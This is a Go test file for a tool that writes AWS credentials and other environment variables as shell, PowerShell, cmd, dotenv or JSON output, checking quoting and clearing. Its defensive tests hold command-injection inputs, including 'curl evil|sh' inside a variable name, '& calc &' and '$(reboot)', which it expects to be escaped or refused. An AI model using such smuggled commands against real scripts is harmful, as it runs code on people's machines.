@@ -0,0 +1,229 @@
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"strings"
+	"testing"
+
+	. "github.com/smartystreets/goconvey/convey"
+)
+
+// a value with something in it to upset every kind of quoting
+const TEST_AWKWARD_VALUE string = `it's "100%" $HOME \ ` + "`date`"
+
+func TestEnvFormats(t *testing.T) {
+	Convey("Test writing credentials for each shell", t, func() {
+		cred := Credential{
+			KeyId:     "AKIAEXAMPLE",
+			SecretKey: "secret/key+",
+			EnvVars:   map[string]string{"ZZ_LAST": "z", "AWKWARD": TEST_AWKWARD_VALUE},
+		}
+		vars := credentialEnvironment(cred)
+		format := func(name string) string {
+			var out bytes.Buffer
+			So(writeEnv(&out, name, vars), ShouldEqual, nil)
+			return out.String()
+		}
+
+		Convey("Keys come first, then the rest in order", func() {
+			So(vars, ShouldResemble, []envVar{
+				{"AWS_ACCESS_KEY_ID", "AKIAEXAMPLE"},
+				{"AWS_SECRET_ACCESS_KEY", "secret/key+"},
+				{"AWKWARD", TEST_AWKWARD_VALUE},
+				{"ZZ_LAST", "z"},
+			})
+		})
+
+		Convey("POSIX shells get the value back exactly", func() {
+			out := format("bash")
+			So(out, ShouldStartWith, "export AWS_ACCESS_KEY_ID=\"AKIAEXAMPLE\"\n")
+			So(out, ShouldContainSubstring, `export AWKWARD="it's \"100%\" \$HOME \\ \`+"`date\\`"+`"`)
+
+			if _, err := exec.LookPath("sh"); err == nil {
+				cmd := exec.Command("sh", "-c", `eval "$(cat)"; printf '%s' "$AWKWARD"`)
+				cmd.Stdin = strings.NewReader(out)
+				got, err := cmd.Output()
+				So(err, ShouldEqual, nil)
+				So(string(got), ShouldEqual, TEST_AWKWARD_VALUE)
+			}
+		})
+
+		Convey("fish", func() {
+			So(format("fish"), ShouldContainSubstring, `set -gx AWKWARD 'it\'s "100%" $HOME \\ `+"`date`'\n")
+		})
+
+		Convey("PowerShell", func() {
+			So(format("powershell"), ShouldContainSubstring, `$Env:AWKWARD = 'it''s "100%" $HOME \ `+"`date`'\n")
+			text, err := formatPowerShellEnv([]envVar{{"A", "x\u2019; calc; \u2018\u201A\u201B"}})
+			So(err, ShouldEqual, nil)
+			So(text, ShouldEqual, "$Env:A = 'x\u2019\u2019; calc; \u2018\u2018\u201A\u201A\u201B\u201B'\n")
+		})
+
+		Convey("cmd", func() {
+			text, err := formatCmdEnv([]envVar{{"A", "it's 100% $HOME & <b> | c^"}, {"B", "hi! ^x"}})
+			So(err, ShouldEqual, nil)
+			So(text, ShouldEqual, `set "A=it's 100%% $HOME & <b> | c^"`+"\n"+
+				`if "!!"=="" (set "B=hi^! ^^x") else set "B=hi! ^x"`+"\n")
+
+			var out bytes.Buffer
+			err = writeEnv(&out, "cmd", []envVar{{"A", "fine"}, {"B", "two\nlines"}})
+			So(err.Error(), ShouldEqual, "The value of B has a line break, which cmd can't set")
+			So(out.Len(), ShouldEqual, 0)
+
+			err = writeEnv(&out, "cmd", []envVar{{"A", "fine"}, {"B", `x" & calc & rem "`}})
+			So(err.Error(), ShouldEqual, "The value of B has a double quote, which cmd can't set safely")
+			So(out.Len(), ShouldEqual, 0)
+		})
+
+		Convey("dotenv", func() {
+			So(format("dotenv"), ShouldContainSubstring, `AWKWARD="it's \"100%\" \$HOME \\ `+"`date`\"\n")
+			text, err := formatDotenv([]envVar{{"A", "two\nlines"}})
+			So(err, ShouldEqual, nil)
+			So(text, ShouldEqual, "A=\"two\\nlines\"\n")
+		})
+
+		Convey("A name that isn't one is refused in every format", func() {
+			hostile := append(vars, envVar{"X=1;curl evil|sh;Y", "v"})
+			for name := range envFormats {
+				var out bytes.Buffer
+				err := writeEnv(&out, name, hostile)
+				So(err, ShouldNotEqual, nil)
+				So(err.Error(), ShouldEqual, "Refusing to write the variable 'X=1;curl evil|sh;Y', which is not a valid name")
+				So(out.Len(), ShouldEqual, 0)
+			}
+		})
+
+		Convey("JSON", func() {
+			var env map[string]string
+			So(json.Unmarshal([]byte(format("json")), &env), ShouldEqual, nil)
+			So(env["AWKWARD"], ShouldEqual, TEST_AWKWARD_VALUE)
+			So(len(env), ShouldEqual, 4)
+		})
+	})
+}
+
+func TestResolveEnvFormat(t *testing.T) {
+	Convey("Test picking the output format", t, func() {
+		origShell := os.Getenv("SHELL")
+		defer os.Setenv("SHELL", origShell)
+		// keep the real config file, and any override of it, out of it
+		config, err := ioutil.TempFile("", "credulous-config")
+		So(err, ShouldEqual, nil)
+		config.Close()
+		defer os.Remove(config.Name())
+		for _, name := range []string{CONFIG_FILE_ENV, "CREDULOUS_FORMAT"} {
+			orig := os.Getenv(name)
+			defer os.Setenv(name, orig)
+		}
+		os.Setenv(CONFIG_FILE_ENV, config.Name())
+		os.Setenv("CREDULOUS_FORMAT", "")
+
+		Convey("It comes from $SHELL if not given", func() {
+			os.Setenv("SHELL", "/usr/local/bin/fish")
+			format, err := resolveEnvFormat("")
+			So(err, ShouldEqual, nil)
+			So(format, ShouldEqual, "fish")
+
+			os.Setenv("SHELL", "/bin/tcsh")
+			format, err = resolveEnvFormat("")
+			So(err, ShouldEqual, nil)
+			So(format, ShouldEqual, "bash")
+
+			os.Setenv("SHELL", "")
+			format, err = resolveEnvFormat("")
+			So(err, ShouldEqual, nil)
+			So(format, ShouldEqual, "bash")
+		})
+
+		Convey("A configured format comes before $SHELL", func() {
+			os.Setenv("SHELL", "/bin/zsh")
+			So(ioutil.WriteFile(config.Name(), []byte("format = \"fish\"\n"), 0600), ShouldEqual, nil)
+			format, err := resolveEnvFormat("")
+			So(err, ShouldEqual, nil)
+			So(format, ShouldEqual, "fish")
+
+			format, err = resolveEnvFormat("json")
+			So(err, ShouldEqual, nil)
+			So(format, ShouldEqual, "json")
+		})
+
+		Convey("Given formats are checked", func() {
+			format, err := resolveEnvFormat("PowerShell")
+			So(err, ShouldEqual, nil)
+			So(format, ShouldEqual, "powershell")
+
+			_, err = resolveEnvFormat("csh")
+			So(err.Error(), ShouldEqual, "Unknown format 'csh'; expected one of bash, cmd, dotenv, fish, json, powershell, pwsh, sh, zsh")
+		})
+	})
+}
+
+func TestClearEnv(t *testing.T) {
+	Convey("Test clearing sourced credentials from a shell", t, func() {
+		creds := Credentials{
+			IamUsername:      "bob",
+			AccountAliasOrId: "acct",
+			Encryptions: []Encryption{{decoded: Credential{
+				KeyId:     "AKIAEXAMPLE",
+				SecretKey: "secret",
+				EnvVars:   map[string]string{"DB_PASSWORD": "pw", "API_TOKEN": "tok"},
+			}}},
+		}
+
+		Convey("Sourcing in a shell says what was loaded", func() {
+			var out bytes.Buffer
+			So(creds.SourceAs(&out, "bash"), ShouldEqual, nil)
+			So(out.String(), ShouldEndWith, "export CREDULOUS_LOADED=\"bob@acct\"\nexport CREDULOUS_LOADED_VARS=\"API_TOKEN DB_PASSWORD\"\nexport CREDULOUS_EXPIRES=\"\"\n")
+
+			creds.CreateTime = "1401515273"
+			creds.LifeTime = 3600
+			So(loadedMarkers(creds, "")[2], ShouldResemble, envVar{"CREDULOUS_EXPIRES", "1401518873"})
+
+			out.Reset()
+			So(creds.SourceAs(&out, "json"), ShouldEqual, nil)
+			So(out.String(), ShouldNotContainSubstring, "CREDULOUS_LOADED")
+		})
+
+		Convey("Everything loaded is cleared, and nothing odd", func() {
+			So(loadedEnvNames("DB_PASSWORD API_TOKEN AWS_ACCESS_KEY_ID $(reboot)"), ShouldResemble, []string{
+				"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_SECURITY_TOKEN",
+				"DB_PASSWORD", "API_TOKEN", "CREDULOUS_LOADED", "CREDULOUS_LOADED_VARS", "CREDULOUS_EXPIRES", "CREDULOUS_FILES",
+			})
+			So(loadedEnvNames(""), ShouldResemble, append(append([]string{}, AWS_ENV_VARS...), "CREDULOUS_LOADED", "CREDULOUS_LOADED_VARS", "CREDULOUS_EXPIRES", "CREDULOUS_FILES"))
+		})
+
+		Convey("Each shell gets its own way of unsetting", func() {
+			names := []string{"A", "B"}
+			unset := func(format string) string {
+				var out bytes.Buffer
+				So(writeUnsetEnv(&out, format, names), ShouldEqual, nil)
+				return out.String()
+			}
+			So(unset("zsh"), ShouldEqual, "unset A B\n")
+			So(unset("fish"), ShouldEqual, "set -e A B\n")
+			So(unset("pwsh"), ShouldEqual, "Remove-Item Env:A -ErrorAction SilentlyContinue\nRemove-Item Env:B -ErrorAction SilentlyContinue\n")
+			So(unset("cmd"), ShouldEqual, "set A=\nset B=\n")
+
+			err := writeUnsetEnv(&bytes.Buffer{}, "dotenv", names)
+			So(err.Error(), ShouldEqual, "There is nothing to clear in dotenv format; it is only for shells")
+		})
+
+		Convey("A POSIX shell is left with nothing", func() {
+			if _, err := exec.LookPath("sh"); err != nil {
+				return
+			}
+			var source, clear bytes.Buffer
+			So(creds.SourceAs(&source, "sh"), ShouldEqual, nil)
+			So(writeUnsetEnv(&clear, "sh", loadedEnvNames("API_TOKEN DB_PASSWORD")), ShouldEqual, nil)
+			cmd := exec.Command("sh", "-c", `eval "$1"; eval "$2"; env | grep -E '^(AWS_|CREDULOUS_|API_TOKEN|DB_PASSWORD)' || true`, "sh", source.String(), clear.String())
+			cmd.Env = []string{"PATH=" + os.Getenv("PATH")}
+			got, err := cmd.Output()
+			So(err, ShouldEqual, nil)
+			So(string(got), ShouldEqual, "")
+		})
+	})
+}